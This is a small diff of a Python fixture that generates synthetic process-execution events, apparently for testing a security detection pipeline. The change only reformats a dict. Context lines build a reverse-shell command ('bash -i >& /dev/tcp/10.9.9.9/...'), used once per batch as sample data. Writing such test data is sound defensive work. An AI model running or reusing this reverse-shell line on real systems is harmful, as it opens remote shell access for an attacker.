@@ -31,9 +31,12 @@ def batch(n: int) -> list[dict[str, Any]]:
         ev = new_event(Action.EXEC, host={"id": HOST}, tier=Tier.TRACEPOINT)
         shell = i == 0  # one reverse shell per batch
         cmd = f"bash -i >& /dev/tcp/10.9.9.9/{4000 + n} 0>&1" if shell else f"ls -l /tmp/{n}/{i}"
-        ev["process"] = {"pid": 1000 + n * 100 + i, "entity_id": f"p{n}-{i}",
-                         "executable": "/usr/bin/bash" if shell else "/usr/bin/ls",
-                         "command_line": cmd}
+        ev["process"] = {
+            "pid": 1000 + n * 100 + i,
+            "entity_id": f"p{n}-{i}",
+            "executable": "/usr/bin/bash" if shell else "/usr/bin/ls",
+            "command_line": cmd,
+        }
         ev["mark"] = f"{n}-{i}"
         out.append(ev)
     return out
